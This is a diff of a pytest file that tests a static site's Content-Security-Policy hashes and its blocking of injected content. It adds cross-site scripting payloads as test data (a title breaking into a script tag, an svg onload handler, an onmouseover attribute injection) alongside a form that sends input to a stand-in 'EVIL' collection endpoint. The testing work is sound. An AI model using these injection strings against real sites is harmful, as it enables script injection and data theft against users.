@@ -8,12 +8,13 @@ from pathlib import Path
 from typing import Iterator
 
 import pytest
-
-from tests.helpers import BuiltSite
-from tests.hostile import build, make_project
+from sitelib import csp
 from tools.browser import open_page
 from tools.searching import open_search, search
 from tools.site_server import SUBPATH, free_port, serve
+
+from tests.helpers import BuiltSite
+from tests.hostile import build, make_project
 
 CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"')
 PAGES = ["", "en/", "esim/", "en/esim/", "en/safety/", "go/", "go/esim/"]
@@ -23,6 +24,24 @@ def policy_of(html_file: Path) -> str:
     match = CSP_META.search(html_file.read_text(encoding="utf-8"))
     assert match, f"{html_file} has no Content-Security-Policy"
     return html.unescape(match.group(1))
+
+
+def test_every_inline_script_of_every_page_is_allowed_by_its_policy(site: BuiltSite) -> None:
+    """Computed here from the built pages, to check the build's hashes (taken from the templates)."""
+    for html_file in site.dir.rglob("*.html"):
+        text, policy = html_file.read_text(encoding="utf-8"), policy_of(html_file)
+        for body in csp.inline_scripts(text):
+            assert csp.digest(body) in policy, (html_file, body[:80])
+        for body in csp.inline_styles(text):
+            assert csp.digest(body) in policy, (html_file, body[:80])
+
+
+def test_a_template_script_holding_jinja_stops_the_build_in_one_line(tmp_path: Path) -> None:
+    template = tmp_path / "main.html"
+    template.write_text('<script>var lang = {{ page_lang | tojson }};</script>', encoding="utf-8")
+    with pytest.raises(csp.PolicyError, match="inline script contains Jinja") as error:
+        csp.template_script_hashes([template])
+    assert "\n" not in str(error.value)
 
 
 def test_every_built_page_has_a_policy_that_locks_base_objects_and_forms(site: BuiltSite) -> None:
@@ -87,13 +106,20 @@ HOSTILE_BODY = f"""
 <form id="hostile-form" action="{EVIL}collect" method="get"><input name="q" value="1"><button>go</button></form>
 """
 HOSTILE_TITLE = "\"Stay safe</title><script>window.__pwned='title';alert(5)</script>\""
+HOSTILE_DESCRIPTION = "'Safe\"><svg onload=\"window.__pwned=`description`;alert(6)\">'"
+HOSTILE_URL = "'https://x.example/\" onmouseover=\"window.__pwned=`url`;alert(7)' #"
+
+
+def hostile_page(text: str) -> str:
+    text = re.sub(r"(?m)^title:.*$", lambda _: f"title: {HOSTILE_TITLE}", text, count=1)
+    text = re.sub(r"(?m)^description:.*$", lambda _: f"description: {HOSTILE_DESCRIPTION}", text, count=1)
+    return text.replace("url: https://", f"url: {HOSTILE_URL}", 1) + HOSTILE_BODY
 
 
 @pytest.fixture(scope="module")
 def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BuiltSite]:
     project = make_project(tmp_path_factory.mktemp("hostile"), checker=False, edits={
-        "docs/safety.en.md": lambda text: re.sub(r"(?m)^title:.*$", f"title: {HOSTILE_TITLE}", text, count=1)
-        + HOSTILE_BODY,
+        "docs/safety.en.md": hostile_page,
     })
     port = free_port()
     base_url = f"http://127.0.0.1:{port}{SUBPATH}"
@@ -111,6 +137,7 @@ def test_injected_scripts_styles_base_and_forms_are_blocked(browser, hostile_sit
     dialogs: list[str] = []
     page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
     assert "<script>window.__pwned" in (hostile_site.dir / "en/safety/index.html").read_text(encoding="utf-8")
+    page.locator(".page-facts__sources a").first.hover()
     page.locator("#js-link").click(no_wait_after=True)
     page.locator("#hostile-form button").click(no_wait_after=True)
     page.wait_for_timeout(500)
